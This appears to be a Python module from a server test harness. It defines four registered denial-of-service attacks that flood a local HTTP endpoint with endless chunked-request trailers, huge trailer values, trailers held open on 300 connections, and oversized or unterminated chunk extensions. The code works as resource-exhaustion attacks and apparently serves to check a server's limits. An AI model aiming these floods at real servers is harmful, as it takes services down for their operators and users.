"""02: what comes after the head of a request and is no body: trailers, and extensions of chunks."""

from __future__ import annotations

import asyncio

from tools.attacks.enemy import Enemy
from tools.attacks.place import ATTACKER
from tools.attacks.registry import attack
from tools.attacks.wire import push, request_head

KIND = "a limit on one phase of a message only"
GRANT = "none"
MB = 1_000_000
MOST_BYTES = 400 * MB  # sent by one attack
FIELD = b"a: " + b"b" * 8000 + b"\r\n"


async def pour(enemy: Enemy, start: bytes, piece: bytes, most_bytes: int = MOST_BYTES) -> None:
    """Open a chunked request, then send pieces for as long as they are taken."""
    _, writer = await asyncio.open_connection("127.0.0.1", enemy.port)
    head = request_head("POST", "/api/documents", address=ATTACKER, transfer_encoding="chunked")
    sent = 0
    try:
        writer.write(head + start)
        while not enemy.over and sent < most_bytes:
            await push(writer, piece)
            sent += len(piece)
            enemy.did["bytes"] += len(piece)
        await enemy.rest_of_time()
    finally:
        writer.transport.abort()


@attack("02-trailers many", kind=KIND, grant=GRANT, short=True)
async def many(enemy: Enemy) -> None:
    """Endless trailer fields on one connection."""
    await enemy.all(pour(enemy, b"0\r\n", FIELD * 20))


@attack("02-trailers huge", kind=KIND, grant=GRANT)
async def huge(enemy: Enemy) -> None:
    """One endless trailer value."""
    await enemy.all(pour(enemy, b"0\r\na: ", b"b" * 200_000))


@attack("02-trailers connections", kind=KIND, grant=GRANT)
async def connections(enemy: Enemy) -> None:
    """A megabyte of trailers on each of 300 connections, which stay open."""
    await enemy.all(*(pour(enemy, b"0\r\n", FIELD * 5, MB) for _ in range(300)))


@attack("02-trailers extensions", kind=KIND, grant=GRANT)
async def extensions(enemy: Enemy) -> None:
    """Chunks of one byte, each with an extension of 8 KB; and one extension without an end."""
    piece = (b"1;" + b"e" * 8000 + b"\r\nx\r\n") * 20
    await enemy.all(pour(enemy, b"", piece), pour(enemy, b"1;", b"e" * 200_000))
